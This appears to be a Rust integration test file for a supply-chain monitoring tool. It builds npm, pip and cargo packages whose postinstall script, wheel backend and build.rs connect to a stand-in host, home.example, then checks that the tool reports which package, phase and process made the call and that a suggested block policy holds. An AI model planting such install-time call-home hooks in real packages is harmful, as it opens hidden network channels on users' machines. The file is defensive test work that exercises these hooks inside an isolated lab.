//! Real package managers, each installing a package whose build script calls home. The sentence that a person needs:
//! which package's script it was, what it ran, and where it connected. Then the same build once more, fenced by the
//! policy that its own record suggests: with the same result, and nothing refused.
//!
//! The packages are made here and served by the lab, so nothing leaves this machine.

use runward_event::{Body, Lost, Status};
use std::cell::Cell;
use std::net::SocketAddr;
use std::path::Path;
use std::process::Command;

use runward_lab::{Answer, Dns, Lab, Site, Tcp, requires, run};
use serde_json::{Value, json};

use crate::bed::{Bed, LIMIT, Recorded};

/// The server for packages.
const PACKAGES: &str = "packages.example";
/// Where packages call.
const HOME: &str = "home.example";
const HOME_PORT: u16 = 4430;

/// A lab with a server for packages and a sink that a package calls, both known by name.
struct World {
    lab: Lab,
    site: Site,
    server: Tcp,
    home: Tcp,
    _dns: Dns,
    /// How often a package has called home.
    calls: Cell<usize>,
}

impl World {
    fn new(site: Site) -> World {
        let lab = Lab::netns().unwrap();
        let server = lab.tcp((lab.v4(80), 80).into(), &site).unwrap();
        let home = lab
            .tcp((lab.v4(66), HOME_PORT).into(), Answer::Silent)
            .unwrap();
        let dns = lab.dns((lab.v4(53), 53).into()).unwrap();
        dns.address(PACKAGES, 300, &[lab.v4(80).into()]).unwrap();
        dns.address(HOME, 300, &[lab.v4(66).into()]).unwrap();
        lab.set_nameservers(&[lab.v4(53).into()]).unwrap();
        World {
            lab,
            site,
            server,
            home,
            _dns: dns,
            calls: Cell::new(0),
        }
    }

    #[expect(
        clippy::unused_self,
        reason = "there is no such address without the server"
    )]
    fn url(&self, path: &str) -> String {
        format!("http://{PACKAGES}/{path}")
    }
}

/// Records a build, and records it again behind the fence that its record suggests. `build` runs it in a bed with these
/// options of `runward run`; `check` says what must hold of both, or that this machine can't show it.
fn audited_then_fenced(
    build: &dyn Fn(&Bed, &[&str]) -> Recorded,
    check: &dyn Fn(&Recorded) -> bool,
) {
    let audit = Bed::new();
    let audited = build(&audit, &["run", "--quiet"]);
    if !check(&audited) {
        return;
    }
    let mut suggest = audit.runward(["policy", "suggest"]);
    let suggested = run(suggest.arg(&audited.folder), LIMIT).unwrap();
    assert!(suggested.worked(), "{}", suggested.stderr);
    let policy = audit.path().join("policy.yml");
    write(&policy, &suggested.stdout);

    let options = ["run", "--quiet", "--egress-policy", "block", "--policy"];
    let options = [&options[..], &[policy.to_str().unwrap()]].concat();
    let fenced = build(&Bed::new(), &options);
    assert_eq!(fenced.report["effective_mode"], "block");
    assert!(check(&fenced));
    for event in &fenced.events {
        let refused = match &event.body {
            Body::Connect(connect) => connect.status == Status::Blocked,
            body => matches!(body, Body::Refused(_)),
        };
        assert!(!refused, "{event:?}\n{}", suggested.stdout);
    }
}

fn tool(program: &str, folder: &Path, arguments: &[&str]) {
    let ran = run(
        Command::new(program).args(arguments).current_dir(folder),
        LIMIT,
    )
    .unwrap();
    assert!(ran.worked(), "{program} {arguments:?}: {}", ran.stderr);
}

fn write(path: impl AsRef<Path>, text: &str) {
    std::fs::create_dir_all(path.as_ref().parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// The rows of the report about connections to one place.
fn rows(recorded: &Recorded, to: SocketAddr) -> Vec<&Value> {
    let all = recorded.report["network_events"].as_array().unwrap();
    all.iter()
        .filter(|row| row["ip"] == to.ip().to_string() && row["port"] == to.port())
        .collect()
}

/// Asserts that the package called home: once, as the dependency that is named, from a process with this argument and
/// this ancestor.
fn called_home(
    recorded: &Recorded,
    world: &World,
    dependency: Value,
    argument: &str,
    ancestor: &str,
) {
    assert!(
        recorded.ran.worked(),
        "{} {}",
        recorded.ran.stdout,
        recorded.ran.stderr
    );
    world.calls.set(world.calls.get() + 1);
    assert_eq!(
        world.home.received().len(),
        world.calls.get(),
        "the package called home"
    );
    let calls = rows(recorded, world.home.at());
    let [call] = &calls[..] else {
        panic!("{calls:?}")
    };
    assert_eq!(
        (&call["protocol"], &call["status"]),
        (&"tcp".into(), &"allowed".into())
    );
    assert_eq!(call["dependency"], dependency, "{call}");
    let args = call["process"]["args"].to_string();
    assert!(args.contains(argument), "{args}");
    let lineage = call["process"]["lineage"].as_array().unwrap();
    let seen: Vec<String> = lineage
        .iter()
        .map(|process| process["args"].to_string())
        .collect();
    assert!(
        seen.iter().any(|args| args.contains(ancestor)),
        "{ancestor}: {seen:?}"
    );
    assert_eq!(recorded.lost(), Vec::<&Lost>::new());
}

#[test]
fn an_npm_package_with_an_install_script() {
    requires!(Root, Netns, Program("npm"), Program("node"), Program("tar"));
    let source = Bed::new();
    let world = World::new(Site::new());
    let package = source.path().join("made/package");
    write(
        package.join("package.json"),
        r#"{"name":"left","version":"1.2.3","scripts":{"postinstall":"node post.js"}}"#,
    );
    write(
        package.join("post.js"),
        &format!("require('net').connect({HOME_PORT}, '{HOME}').end('hello')"),
    );
    tool(
        "tar",
        &source.path().join("made"),
        &["-czf", "../left.tgz", "package"],
    );
    world.site.page(
        "/left-1.2.3.tgz",
        "application/gzip",
        std::fs::read(source.path().join("left.tgz")).unwrap(),
    );
    let url = world.url("left-1.2.3.tgz");
    let manifest = format!(
        r#"{{"name":"app","version":"1.0.0","dependencies":{{"left":"{url}"}},"allowScripts":{{"left":true,"{url}":true}}}}"#
    );
    let build = |bed: &Bed, options: &[&str]| {
        write(bed.path().join("package.json"), &manifest);
        let mut command = bed.runward_in(&world.lab, options);
        command
            .args(["--", "npm", "install", "--no-audit", "--no-fund"])
            .env("npm_config_cache", bed.path().join("npm"))
            .env("npm_config_update_notifier", "false");
        bed.finish(&mut command)
    };
    audited_then_fenced(&build, &|recorded| {
        if world.home.received().is_empty() && recorded.ran.worked() {
            // Which form of name lets a script run has changed between the versions of npm.
            runward_lab::skip(
                runward_lab::test_name!(),
                "this npm does not run install scripts of packages by address",
            );
            return false;
        }
        called_home(
            recorded,
            &world,
            json!({ "ecosystem": "npm", "name": "left", "version": "1.2.3", "phase": "postinstall" }),
            "post.js",
            "npm",
        );
        assert!(
            !rows(recorded, world.server.at()).is_empty(),
            "npm fetched the package"
        );
        true
    });
}

#[test]
fn a_python_package_built_from_its_source() {
    requires!(Root, Netns, Program("python3"), Program("tar"));
    let source = Bed::new();
    let world = World::new(Site::new());
    let package = source.path().join("made/left-1.2.3");
    write(
        package.join("PKG-INFO"),
        "Metadata-Version: 2.1\nName: left\nVersion: 1.2.3\n",
    );
    write(
        package.join("pyproject.toml"),
        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n",
    );
    let backend = r#"
import os, socket, zipfile

def build_wheel(folder, config_settings=None, metadata_directory=None):
    socket.create_connection(("HOST", PORT)).close()
    name = "left-1.2.3-py3-none-any.whl"
    info = "left-1.2.3.dist-info/"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.writestr("left.py", "")
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: left\nVersion: 1.2.3\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(info + "RECORD", "")
    return name

def prepare_metadata_for_build_wheel(folder, config_settings=None):
    info = "left-1.2.3.dist-info"
    os.makedirs(os.path.join(folder, info))
    for name, text in [("METADATA", "Metadata-Version: 2.1\nName: left\nVersion: 1.2.3\n"), ("WHEEL", "Wheel-Version: 1.0\n")]:
        with open(os.path.join(folder, info, name), "w") as file:
            file.write(text)
    return info
"#;
    let backend = backend
        .replace("HOST", HOME)
        .replace("PORT", &HOME_PORT.to_string());
    write(package.join("backend.py"), &backend);
    tool(
        "tar",
        &source.path().join("made"),
        &["-czf", "../left-1.2.3.tar.gz", "left-1.2.3"],
    );
    let archive = std::fs::read(source.path().join("left-1.2.3.tar.gz")).unwrap();
    world
        .site
        .page("/left-1.2.3.tar.gz", "application/gzip", archive);
    let url = format!("left @ {}", world.url("left-1.2.3.tar.gz"));
    let build = |bed: &Bed, options: &[&str]| {
        let mut command = bed.runward_in(&world.lab, options);
        command.args(["--", "python3", "-m", "pip", "install", "--no-deps"]);
        command.args([
            "--no-cache-dir",
            "--disable-pip-version-check",
            "--no-input",
        ]);
        // Else pip does not fetch over plain HTTP from another machine.
        command.args(["--trusted-host", PACKAGES]);
        command.args(["--target", "out", &url]);
        bed.finish(&mut command)
    };
    audited_then_fenced(&build, &|recorded| {
        if recorded.ran.stderr.contains("No module named pip") {
            runward_lab::skip(runward_lab::test_name!(), "this python3 has no pip");
            return false;
        }
        called_home(
            recorded,
            &world,
            json!({ "ecosystem": "pip", "name": "left", "phase": "build_wheel" }),
            "build_wheel",
            "pip",
        );
        assert!(
            !rows(recorded, world.server.at()).is_empty(),
            "pip fetched the package"
        );
        true
    });
}

#[test]
fn a_rust_crate_with_a_build_script_from_git_over_http() {
    requires!(Root, Netns, Program("cargo"), Program("git"), Program("cc"));
    let source = Bed::new();
    let made = source.path().join("made");
    let served = source.path().join("served");
    std::fs::create_dir(&served).unwrap();
    let world = World::new(Site::folder(&served));
    write(
        made.join("Cargo.toml"),
        "[package]\nname = \"left\"\nversion = \"1.2.3\"\nedition = \"2021\"\n",
    );
    write(made.join("src/lib.rs"), "");
    write(
        made.join("build.rs"),
        &format!("fn main() {{ std::net::TcpStream::connect(\"{HOME}:{HOME_PORT}\").unwrap(); }}"),
    );
    for arguments in [
        &["init", "-q", "-b", "main"][..],
        &["add", "."],
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "commit",
            "-q",
            "-m",
            "A crate",
        ],
        &["clone", "-q", "--bare", ".", "../served/left.git"],
        &["-C", "../served/left.git", "update-server-info"],
    ] {
        tool("git", &made, arguments);
    }
    let manifest = format!(
        "[package]\nname = \"app\"\nversion = \"1.0.0\"\nedition = \"2021\"\n[dependencies]\nleft = {{ git = \"{}\" }}\n",
        world.url("left.git")
    );
    let build = |bed: &Bed, options: &[&str]| {
        write(bed.path().join("Cargo.toml"), &manifest);
        write(bed.path().join("src/main.rs"), "fn main() {}");
        let mut command = bed.runward_in(&world.lab, options);
        command.args(["--", "cargo", "build", "--quiet"]);
        // The tests run under cargo themselves; nothing of that must reach the cargo in here.
        for (name, _) in std::env::vars_os() {
            let name = name.to_string_lossy().into_owned();
            if name.starts_with("CARGO_") || name == "RUSTFLAGS" || name == "LD_LIBRARY_PATH" {
                command.env_remove(name);
            }
        }
        command
            .env("CARGO_HOME", bed.path().join("cargo"))
            .env("CARGO_TARGET_DIR", bed.path().join("target"))
            .env("CARGO_NET_GIT_FETCH_WITH_CLI", "true");
        bed.finish(&mut command)
    };
    audited_then_fenced(&build, &|recorded| {
        called_home(
            recorded,
            &world,
            json!({ "ecosystem": "cargo", "name": "left", "version": "1.2.3", "phase": "build-script" }),
            "build-script-build",
            "cargo",
        );
        let fetches = rows(recorded, world.server.at());
        assert!(!fetches.is_empty(), "git fetched the crate");
        for fetch in fetches {
            let program = fetch["process"]["exe"].as_str().unwrap();
            assert!(program.contains("git-remote-http"), "{fetch}");
            let dependency = &fetch["dependency"];
            assert_eq!(
                dependency,
                &Value::Null,
                "fetching is cargo's own doing: {fetch}"
            );
        }
        true
    });
}

#[test]
fn a_clone_over_http() {
    requires!(
        Root,
        Netns,
        Program("git-upload-pack"),
        GitCommand("remote-http")
    );
    let source = Bed::new();
    let served = source.path().join("served");
    let made = source.path().join("made");
    std::fs::create_dir(&served).unwrap();
    write(made.join("file"), "content");
    for arguments in [
        &["init", "-q", "-b", "main"][..],
        &["add", "."],
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "commit",
            "-q",
            "-m",
            "A file",
        ],
        &["clone", "-q", "--bare", ".", "../served/repo.git"],
        &["-C", "../served/repo.git", "update-server-info"],
    ] {
        tool("git", &made, arguments);
    }
    let world = World::new(Site::folder(&served));
    let build = |bed: &Bed, options: &[&str]| {
        let mut command = bed.runward_in(&world.lab, options);
        command.args(["--", "git", "clone", "-q", &world.url("repo.git"), "cloned"]);
        bed.finish(&mut command)
    };
    audited_then_fenced(&build, &|recorded| {
        assert!(recorded.ran.worked(), "{}", recorded.ran.stderr);
        let fetches = rows(recorded, world.server.at());
        assert!(!fetches.is_empty());
        for fetch in fetches {
            let lineage = fetch["process"]["lineage"].as_array().unwrap();
            let oldest = lineage
                .last()
                .unwrap_or_else(|| panic!("no lineage: {fetch}"));
            assert_eq!(oldest["args"][1], "clone", "{fetch}");
            assert!(fetch["bytes_received"].as_u64().unwrap() > 0, "{fetch}");
        }
        true
    });
}
